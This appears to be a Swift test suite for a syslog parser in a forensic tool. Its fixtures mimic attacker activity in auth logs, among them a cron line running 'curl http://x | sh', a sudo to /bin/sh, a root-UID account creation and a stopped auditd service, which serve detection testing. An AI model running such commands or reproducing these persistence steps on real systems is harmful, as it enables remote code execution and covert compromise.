import Artifacts
import CaseModel
import HostFacts
import Testing

@Suite struct SyslogTests {
  private func parse(_ text: String, path: HostString = "/var/log/auth.log", offset: Int = 0, written: Timestamp? = nil)
    -> ArtifactOutput
  {
    var input = Fixtures.input(path, text)
    input.utcOffsetSeconds = offset
    if let written {
      input.file = FileRecord(path: path, kind: .file)
      input.file?.modified = written
    }
    return SyslogParser.parse(input)
  }

  @Test(
    arguments: [
      (
        "sshd[1]: Failed password for invalid user admin from 203.0.113.9 port 4 ssh2", LogEventRecord.Kind.loginFailed,
        "admin", "203.0.113.9"
      ),
      (
        "sshd[1]: Accepted publickey for deploy from 203.0.113.9 port 4 ssh2: RSA SHA256:x", .loginAccepted, "deploy",
        "203.0.113.9"
      ),
      (
        "sshd[1]: Invalid user x from 8.8.8.8 port 1 from 203.0.113.9 port 4", .invalidUser, "x from 8.8.8.8 port 1",
        "203.0.113.9"
      ),
      (
        "sshd-session[1]: Accepted password for root from 2001:db8::1 port 4 ssh2", .loginAccepted, "root",
        "2001:db8::1"
      ),
      ("sudo:   bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", .sudo, "bob", nil),
      ("su[7]: (to root) bob on pts/1", .su, "root", nil),
      ("useradd[9]: new user: name=svc, UID=0, GID=0, home=/, shell=/bin/sh", .accountChanged, "svc", nil),
      ("passwd[9]: pam_unix(passwd:chauthtok): password changed for root", .accountChanged, "root", nil),
      ("CRON[3]: (root) CMD (curl http://x | sh)", .cronCommand, "root", nil),
      ("crontab[3]: (www-data) REPLACE (www-data)", .cronCommand, "www-data", nil),
      ("kernel: [    1.0] device eth0 entered promiscuous mode", .kernelMessage, nil, nil),
      ("kernel: evil: loading out-of-tree module taints kernel.", .kernelMessage, nil, nil),
      ("rsyslogd: [origin software=\"rsyslogd\"] exiting on signal 15.", .serviceChanged, nil, nil),
      ("systemd[1]: Stopped auditd.service - Security Auditing Service.", .serviceChanged, nil, nil),
      (
        "login[2]: pam_unix(login:auth): authentication failure; logname= uid=0 rhost=203.0.113.9  user=root",
        .loginFailed, "root", "203.0.113.9"
      ),
    ] as [(String, LogEventRecord.Kind, String?, String?)])
  func messagesAreUnderstood(message: String, kind: LogEventRecord.Kind, account: String?, address: String?) {
    let event = parse("2025-11-24T09:00:00.5+01:00 web-1 \(message)\n").events.first
    #expect(event?.kind == kind)
    #expect(event?.account?.text == account)
    #expect(event?.address?.text == address)
    #expect(event?.time == Timestamp(seconds: 1_763_971_200, nanoseconds: 500_000_000))
  }

  @Test(arguments: [
    "sshd[1]: Connection closed by 203.0.113.9 port 4 [preauth]",
    "CRON[1]: pam_unix(cron:session): session opened for user root",
    "kernel: usb 1-1: new device", "app: hello", "systemd[1]: Started Session 5 of user root.",
  ])
  func chatterIsNotKept(message: String) {
    let output = parse("2025-11-24T09:00:00+00:00 web-1 \(message)\n")
    #expect(output.events.isEmpty && output.logFile?.entries == 1)
  }

  @Test func allThreeFormsAreRead() {
    let message = "Accepted password for root from 203.0.113.9 port 4 ssh2"
    let text = """
      Nov 24 09:00:00 web-1 sshd[1]: \(message)
      2025-11-24T09:00:01Z web-1 sshd[1]: \(message)
      <86>1 2025-11-24T09:00:02Z web-1 sshd 1 - [x a="b] c"] \(message)

      """
    let output = parse(text, written: Timestamp(seconds: 1_763_980_000))
    #expect(output.events.map(\.time?.seconds) == [1_763_974_800, 1_763_974_801, 1_763_974_802])
    #expect(output.notes.isEmpty)
  }

  @Test func yearsAreCountedBackFromTheLastWrite() {
    let line = "web-1 sshd[1]: Accepted password for root from 203.0.113.9 port 4 ssh2\n"
    let output = parse(
      "Dec 31 23:59:59 \(line)Jan  1 00:00:01 \(line)", offset: 3600, written: Timestamp(seconds: 1_767_222_500))
    #expect(output.events.map(\.time?.description) == ["2025-12-31T22:59:59Z", "2025-12-31T23:00:01Z"])
  }

  @Test func aLongSilenceIsAGapOnlyAgainstTheRhythm() {
    func log(stepSeconds: Int64) -> String {
      var text = ""
      var time: Int64 = 1_763_000_000
      for index in 0..<100 {
        text += "\(Timestamp(seconds: time)) web-1 app: x\n"
        time += index == 60 ? 8 * 3600 : stepSeconds
      }
      return text
    }
    let busy = parse(log(stepSeconds: 60)).logFile
    #expect(busy?.gaps.map(\.kind) == ["time"])
    #expect(busy?.gaps.first?.to?.seconds == (busy?.gaps.first?.from?.seconds ?? 0) + 8 * 3600)
    #expect(parse(log(stepSeconds: 3600)).logFile?.gaps.isEmpty == true)
  }

  @Test func zeroBytesAndStepsBackAreGaps() {
    let text = "2025-11-24T09:00:00Z a b: c\n\0\0\0\02025-11-24T09:00:01Z a b: c\n2025-11-24T08:00:00Z a b: c\n"
    let gaps = parse(text).logFile?.gaps
    #expect(gaps?.map(\.kind) == ["zeros", "order"])
    #expect(gaps?.first?.length == 4 && gaps?.first?.offset == 28)
    #expect(parse(text).logFile?.entries == 3)
  }

  @Test func aCompressedLogIsNotedNotRead() {
    let output = SyslogParser.parse(Fixtures.input("/var/log/syslog.2.gz", [0x1f, 0x8b, 8, 0, 0]))
    #expect(output.notes.count == 1 && output.logFile?.kind == "syslog" && output.events.isEmpty)
  }

  @Test func aFloodIsBoundedAndCounted() {
    let line = "2025-11-24T09:00:00Z a sshd[1]: Failed password for root from 203.0.113.9 port 4 ssh2\n"
    let output = parse(String(repeating: line, count: 2500))
    #expect(output.events.count == 2000 && output.events.last?.line == 2500)
    #expect(output.notes.first?.message.contains("500 login_failed") == true)
  }

  @Test func secretsInCommandsAreMasked() {
    let output = parse("2025-11-24T09:00:00Z a sudo:  b : COMMAND=/usr/bin/mysql -pHunter2\n")
    #expect(output.events.first?.message.text.contains("-p*******") == true)
  }
}
